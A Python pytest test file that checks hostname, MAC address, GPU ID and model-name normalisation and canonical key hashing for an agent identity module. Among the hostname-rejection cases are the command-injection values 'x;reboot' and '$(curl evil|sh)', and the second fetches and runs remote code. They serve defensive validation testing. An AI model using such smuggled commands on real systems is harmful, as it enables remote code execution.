"""Canonical tuples: normalisation rules, canonical JSON and keys (vectors in docs/PROTOCOL.md)."""

from __future__ import annotations

import hashlib
import json
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cooee_agent.errors import IdentityError
from cooee_agent.identity import canonical
from cooee_agent.identity.canonical import make_tuple

H100_UUID = "GPU-3c5a6f2e-1b2c-4d5e-8f90-123456789abc"

# The vectors published in docs/PROTOCOL.md, section 2.
VECTORS = [
    (
        ("Llama3", "Host1.Example.", "A8:BB:CC:DD:EE:FF", H100_UUID),
        '{"gpu_id":"gpu-3c5a6f2e-1b2c-4d5e-8f90-123456789abc","hostname":"host1.example",'
        '"mac":"a8bbccddeeff","model":"llama3:latest"}',
        "b2828f094203c752e7c66b3d296a67dd74007209ee20ab6c9a50dab15b96e627",
        "PA18Y2A20F",
    ),
]


@pytest.mark.parametrize(("fields", "json_text", "key", "short"), VECTORS)
def test_protocol_vectors(
    fields: tuple[str, str, str, str], json_text: str, key: str, short: str
) -> None:
    agent = make_tuple(*fields)
    assert agent.canonical_json() == json_text
    assert agent.key == key == hashlib.sha256(json_text.encode()).hexdigest()
    assert agent.short_key == short


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("llama3", "llama3:latest"),
        ("  Llama3:8B ", "llama3:8b"),
        ("registry.ollama.ai/library/qwen2.5:7b", "qwen2.5:7b"),
        ("registry.ollama.ai/jmorgan/custom", "jmorgan/custom:latest"),
        (
            "hf.co/bartowski/Llama-3.2-1B-Instruct-GGUF:Q4_K_M",
            "hf.co/bartowski/llama-3.2-1b-instruct-gguf:q4_k_m",
        ),
        ("localhost:5000/team/model", "localhost:5000/team/model:latest"),
        ("localhost:5000/team/model:v2", "localhost:5000/team/model:v2"),
    ],
)
def test_model_normalisation(raw: str, expected: str) -> None:
    assert canonical.normalise_model(raw) == expected


@pytest.mark.parametrize(
    ("raw", "fault"),
    [
        ("", "empty"),
        ("   ", "empty"),
        ("llama3:", "invalid tag"),
        ("llama3@sha256:abcd", "digest"),
        ("lla ma", "invalid name part"),
        ("llama\x003", "control character"),
        ("llama3\u200b", "control character"),  # zero-width space is a format character
    ],
)
def test_model_rejections(raw: str, fault: str) -> None:
    with pytest.raises(IdentityError, match=fault):
        canonical.normalise_model(raw)


@pytest.mark.parametrize(
    "raw",
    [
        "a8:bb:cc:dd:ee:ff",
        "A8-BB-CC-DD-EE-FF",
        "a8bb.ccdd.eeff",
        "A8BBCCDDEEFF",
        " a8:bb:cc:dd:ee:ff\n",
    ],
)
def test_mac_forms_normalise_to_12_hex_digits(raw: str) -> None:
    assert canonical.normalise_mac(raw) == "a8bbccddeeff"


@pytest.mark.parametrize(
    ("raw", "fault"),
    [
        ("00:00:00:00:00:00", "all zeros"),
        ("ff:ff:ff:ff:ff:ff", "broadcast"),
        ("01:00:5e:00:00:01", "multicast"),
        ("33:33:00:00:00:01", "multicast"),
        ("a8:bb:cc:dd:ee", "not a 48-bit"),
        ("a8:bb:cc:dd:ee:ff:00", "not a 48-bit"),
        ("a8:bb-cc:dd:ee:ff", "not a 48-bit"),
        ("g8:bb:cc:dd:ee:ff", "not a 48-bit"),
        ("", "empty"),
    ],
)
def test_mac_rejections(raw: str, fault: str) -> None:
    with pytest.raises(IdentityError, match=fault):
        canonical.normalise_mac(raw)


def test_locally_administered_bit() -> None:
    assert canonical.is_locally_administered("02:42:ac:11:00:02")
    assert not canonical.is_locally_administered("a8:bb:cc:dd:ee:ff")


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Node-01.Cluster.Local.", "node-01.cluster.local"),
        ("gpu7", "gpu7"),
        ("Bücher", "bücher"),
        ("Bu\u0308cher", "bücher"),  # decomposed u + combining diaeresis -> NFC
        ("node_1.Lab", "node_1.lab"),
        ("東京サーバー.example", "東京サーバー.example"),  # Han with kana is one writing system
        ("gpu7.10", "gpu7.10"),
    ],
)
def test_hostname_normalisation(raw: str, expected: str) -> None:
    assert canonical.normalise_hostname(raw) == expected


@pytest.mark.parametrize(
    "raw",
    [
        "",
        "a..b",
        "host name",
        ".",
        "a" * 64,
        "x\ty",
        "gpu-n\u043ede-01",  # Cyrillic o among Latin letters: a look-alike
        "123",
        "10.0.0.1",
        "a/b",
        "x;reboot",
        "$(curl evil|sh)",
        "-gpu7",
        "gpu7-.lab",
    ],
)
def test_hostname_rejections(raw: str) -> None:
    with pytest.raises(IdentityError):
        canonical.normalise_hostname(raw)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (H100_UUID, H100_UUID.lower()),
        ("MIG-11111111-2222-3333-4444-555555555555", "mig-11111111-2222-3333-4444-555555555555"),
        ("0000:03:00.0", "0000:03:00.0"),
        ("00000000:17:00.0", "0000:17:00.0"),  # NVML's 8-digit domain
        ("03:00.0", "0000:03:00.0"),
        ("0x1A2B3C4D5E6F7081".removeprefix("0x"), "1a2b3c4d5e6f7081"),  # AMD unique_id
        ("Apple:M2 Max", "apple:m2 max"),
        ("CPU", "cpu"),
    ],
)
def test_gpu_id_forms(raw: str, expected: str) -> None:
    assert canonical.normalise_gpu_id(raw) == expected


@pytest.mark.parametrize(
    "raw", ["", "gpu-123", "nvidia0", "apple:", "0000:03:00.9", "12345678901234567"]
)
def test_gpu_id_rejections(raw: str) -> None:
    with pytest.raises(IdentityError, match=r"gpu_id|empty"):
        canonical.normalise_gpu_id(raw)


macs = (
    st.integers(0, 2**48 - 1)
    .filter(lambda n: not (n >> 40) & 1 and n not in (0, 2**48 - 1))
    .map(lambda n: f"{n:012x}")
)
names = st.text(alphabet=string.ascii_lowercase + string.digits, min_size=1, max_size=20)
hostnames = names.filter(lambda name: not name.isdigit())  # all digits reads as a host_id


@given(
    names, hostnames, macs, st.sampled_from([H100_UUID, "cpu", "0000:c1:00.0", "apple:m3 ultra"])
)
def test_normalisation_is_idempotent_and_keys_are_stable(
    model: str, host: str, mac: str, gpu: str
) -> None:
    once = make_tuple(model, host, mac, gpu)
    twice = make_tuple(once.model, once.hostname, once.mac, once.gpu_id)
    assert once == twice
    assert once.key == twice.key
    assert json.loads(once.canonical_json()) == {
        "gpu_id": once.gpu_id,
        "hostname": once.hostname,
        "mac": once.mac,
        "model": once.model,
    }


@given(names, hostnames, macs)
def test_case_and_mac_separator_do_not_change_the_key(model: str, host: str, mac: str) -> None:
    colon_mac = ":".join(mac[i : i + 2] for i in range(0, 12, 2)).upper()
    assert (
        make_tuple(model, host, mac, "cpu").key
        == make_tuple(model.upper(), f" {host.upper()}. ", colon_mac, "CPU").key
    )


@given(st.text(min_size=1, max_size=30))
def test_any_text_either_normalises_or_raises_identity_error(text: str) -> None:
    for normalise in (
        canonical.normalise_model,
        canonical.normalise_hostname,
        canonical.normalise_mac,
        canonical.normalise_gpu_id,
    ):
        try:
            result = normalise(text)
        except IdentityError:
            continue
        assert result == normalise(result)


@given(st.text(alphabet="0123456789abcdef", min_size=64, max_size=64))
def test_short_key_is_first_50_bits_in_crockford(key: str) -> None:
    short = canonical.short_key(key)
    assert len(short) == 10
    value = 0
    for char in short:
        value = value * 32 + canonical.CROCKFORD.index(char)
    assert value == int(key, 16) >> (256 - 50)


@given(st.tuples(*(st.text(max_size=40) for _ in range(4))))
def test_canonical_json_is_byte_for_byte_the_sorted_compact_json_dumps(fields) -> None:
    agent = canonical.AgentTuple(*fields)
    as_dict = {"model": fields[0], "hostname": fields[1], "mac": fields[2], "gpu_id": fields[3]}
    assert agent.canonical_json() == json.dumps(
        as_dict, sort_keys=True, separators=(",", ":"), ensure_ascii=False
    )
